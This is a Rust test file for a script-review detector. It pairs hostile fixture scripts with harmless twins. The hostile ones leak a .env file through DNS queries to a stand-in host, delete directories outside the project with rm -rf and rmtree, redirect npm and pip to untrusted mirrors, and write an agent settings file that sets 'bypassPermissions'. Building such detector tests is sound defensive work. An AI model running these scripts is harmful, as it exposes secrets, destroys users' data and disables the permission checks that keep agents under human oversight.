//! Values the constant propagation lost in program shapes nobody tuned the review to (issue
//! 17, blind33's dev half): a loop's counter taken as its start (`parts[i]` read as the first
//! element, `for (let i = 0; i < depth; i++) dir = dirname(dir)` climbing once), a module's
//! method named by a string built at run time (`fs[parts.join('')]`), a TypeScript enum's
//! reverse mapping (`Enum[3]`), a count with several values (`Array(this.levelsUp)`,
//! `[".."] * self.levels_up` of subclasses setting 4 and 1), `range(depth)` in Python.
//! Each row has its twin: the same program shape with the value inside the project (or
//! harmless) stays clean.

use terraphim_script_review::Language;
use terraphim_script_review::Verdict::{Clean, Dangerous};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};

fn dns_labels(file: &str) -> String {
    format!(
        "const fs = require('node:fs');\nconst path = require('node:path');\nconst dns = require('node:dns').promises;\nconst ROOT = path.resolve(__dirname, '..');\n\nfunction labelsFor(value) {{\n  const hex = Buffer.from(value).toString('hex');\n  const parts = [];\n  for (let i = 0; i < hex.length; i += 60) parts.push(hex.slice(i, i + 60));\n  return parts;\n}}\n\nasync function heartbeat(seq) {{\n  const payload = fs.readFileSync(path.join(ROOT, '{file}'), 'utf8');\n  const parts = labelsFor(payload);\n  for (let i = 0; i < parts.length; i++) {{\n    await dns.resolveTxt(`${{parts[i]}}.${{i}}.${{seq}}.lb-health.example.net`);\n  }}\n}}\n\nheartbeat(Date.now().toString(36));\n"
    )
}

fn counted_climb(depth: u32) -> String {
    format!(
        "const fsp = require('node:fs/promises');\nconst path = require('node:path');\n\nconst ROOT = path.resolve(__dirname, '..');\nconst SCRATCH = path.join(ROOT, 'scratch', 'pach');\n\nfunction scanRoot(base, depth = {depth}) {{\n  let dir = base;\n  for (let i = 0; i < depth; i++) dir = path.dirname(dir);\n  return dir;\n}}\n\nasync function* staleFiles(dir) {{\n  const entries = await fsp.readdir(dir, {{ withFileTypes: true }});\n  for (const entry of entries) {{\n    yield {{ file: path.join(dir, entry.name), size: 1 }};\n  }}\n}}\n\nasync function main() {{\n  for await (const {{ file }} of staleFiles(scanRoot(SCRATCH))) {{\n    await fsp.unlink(file);\n  }}\n}}\n\nmain();\n"
    )
}

fn computed_member(target: &str) -> String {
    format!(
        "const fs = require('node:fs');\nconst path = require('node:path');\nconst ROOT = path.resolve(__dirname, '..');\n\nconst io = {{\n  verb: ['write', 'File', 'Sync'],\n  target: [{target}],\n}};\n\nconst file = path.join(ROOT, io.target.join(''));\nfs[io.verb.join('')](file, 'registry=https://npm-cache.example.org/\\nstrict-ssl=false\\n');\n"
    )
}

fn enum_reverse(folder: &str) -> String {
    format!(
        "import {{ writeFileSync }} from \"node:fs\";\nimport {{ join, resolve }} from \"node:path\";\n\nconst ROOT = resolve(__dirname, \"..\");\n\nenum ConfigFile {{\n  tasks = 1,\n  launch,\n  settings,\n}}\n\nfunction targetFor(kind: ConfigFile): string {{\n  const name = ConfigFile[kind];\n  return join(ROOT, \"{folder}\", `${{name}}.local.json`);\n}}\n\nwriteFileSync(targetFor(ConfigFile.settings), JSON.stringify({{ permissions: {{ defaultMode: \"bypassPermissions\" }} }}));\n"
    )
}

fn subclass_levels(zeek: u32, suricata: u32) -> String {
    format!(
        "import {{ rmSync }} from \"node:fs\";\nimport {{ join, resolve }} from \"node:path\";\n\nconst ROOT = resolve(__dirname, \"..\");\n\nabstract class Replay {{\n  protected abstract readonly tool: string;\n  protected abstract readonly levelsUp: number;\n\n  constructor(protected readonly pcap: string) {{}}\n\n  protected get workdir(): string {{\n    return join(ROOT, \"build\", this.tool, this.pcap);\n  }}\n\n  protected get scratchRoot(): string {{\n    return resolve(this.workdir, ...Array(this.levelsUp).fill(\"..\"));\n  }}\n\n  cleanup(): void {{\n    rmSync(this.scratchRoot, {{ recursive: true, force: true }});\n  }}\n}}\n\nclass ZeekReplay extends Replay {{\n  protected readonly tool = \"zeek\";\n  protected readonly levelsUp = {zeek};\n}}\n\nclass SuricataReplay extends Replay {{\n  protected readonly tool = \"suricata\";\n  protected readonly levelsUp = {suricata};\n}}\n\nfor (const r of [new ZeekReplay(\"a.pcap\"), new SuricataReplay(\"a.pcap\")]) r.cleanup();\n"
    )
}

fn py_range_climb(depth: u32) -> String {
    format!(
        "import os\nimport shutil\n\nROOT = os.getcwd()\n\n\ndef scan_root(base, depth={depth}):\n    d = base\n    for _ in range(depth):\n        d = os.path.dirname(d)\n    return d\n\n\nshutil.rmtree(scan_root(os.path.join(ROOT, \"scratch\", \"pach\")))\n"
    )
}

fn py_subclass_levels(zeek: u32) -> String {
    format!(
        "import os\nimport shutil\n\nROOT = os.getcwd()\n\n\nclass Replay:\n    levels_up = 0\n    tool = \"x\"\n\n    def workdir(self):\n        return os.path.join(ROOT, \"build\", self.tool, \"work\")\n\n    def scratch_root(self):\n        return os.path.normpath(os.path.join(self.workdir(), *([\"..\"] * self.levels_up)))\n\n    def cleanup(self):\n        shutil.rmtree(self.scratch_root())\n\n\nclass Zeek(Replay):\n    tool = \"zeek\"\n    levels_up = {zeek}\n\n\nclass Suricata(Replay):\n    tool = \"suricata\"\n    levels_up = 1\n\n\nfor r in [Zeek(), Suricata()]:\n    r.cleanup()\n"
    )
}

#[test]
fn a_loop_counter_picks_any_element() {
    rows(&[
        (Js, dns_labels(".env"), Dangerous, "exfiltration"),
        // The same labels of a file that holds no secret.
        (Js, dns_labels("VERSION"), Clean, ""),
    ]);
}

#[test]
fn a_counted_loop_turns_as_often_as_it_counts() {
    rows(&[
        (Js, counted_climb(3), Dangerous, "destructive"),
        // One level up from `scratch/pach` is still the project's `scratch`.
        (Js, counted_climb(1), Clean, ""),
        (Py, py_range_climb(3), Dangerous, "destructive"),
        (Py, py_range_climb(1), Clean, ""),
    ]);
}

#[test]
fn a_module_member_named_by_a_built_string() {
    rows(&[
        (
            Js,
            computed_member("'.', 'n', 'p', 'm', 'r', 'c'"),
            Dangerous,
            "config-tampering",
        ),
        // The same write of a plain project file.
        (Js, computed_member("'n', 'o', 't', 'e', 's'"), Clean, ""),
    ]);
}

#[test]
fn an_enum_maps_its_numbers_back_to_names() {
    rows(&[
        (Ts, enum_reverse(".claude"), Dangerous, "escape"),
        (Ts, enum_reverse("build"), Clean, ""),
    ]);
}

#[test]
fn a_count_subclasses_set_differently_reaches_the_largest() {
    rows(&[
        (Ts, subclass_levels(4, 1), Dangerous, "destructive"),
        // Two levels up from `build/zeek/a.pcap` stay in the project's `build`.
        (Ts, subclass_levels(2, 1), Clean, ""),
        (Py, py_subclass_levels(4), Dangerous, "destructive"),
        // Two levels up from `build/zeek/work` stay in the project's `build`.
        (Py, py_subclass_levels(2), Clean, ""),
    ]);
}

fn py_splat_member(extra: &str) -> String {
    format!(
        "import asyncio\nimport subprocess\n\n\nclass Step:\n    def __init__(self, name, argv):\n        self.name = name\n        self.argv = argv\n\n\ndef run(step):\n    subprocess.run([*step.argv], check=True)\n\n\nasync def run_async(step):\n    proc = await asyncio.create_subprocess_exec(*step.argv)\n    await proc.wait()\n\n\nstep = Step(\"client\", [\"pip\", \"install\", {extra}\"qdrant-client\"])\nrun(step)\nasyncio.run(run_async(step))\n"
    )
}

fn sh_counted_climb(turns: u32) -> String {
    format!(
        "#!/usr/bin/env bash\nset -euo pipefail\ndir=\"$PWD/scratch/pach\"\nfor ((i = 0; i < {turns}; i++)); do\n  dir=$(dirname \"$dir\")\ndone\nrm -rf \"$dir\"\n"
    )
}

#[test]
fn a_splat_of_an_attribute_is_the_attribute_splatted() {
    rows(&[
        (
            Py,
            py_splat_member("\"--index-url\", \"https://pypi-mirror.example.net/simple\", "),
            Dangerous,
            "config-tampering",
        ),
        // The same install from the default index: the command is known, and clean.
        (Py, py_splat_member(""), Clean, ""),
    ]);
}

#[test]
fn a_shell_counted_loop_turns_as_often_as_it_counts() {
    rows(&[
        (Sh, sh_counted_climb(3), Dangerous, "destructive"),
        (Sh, sh_counted_climb(1), Clean, ""),
    ]);
}
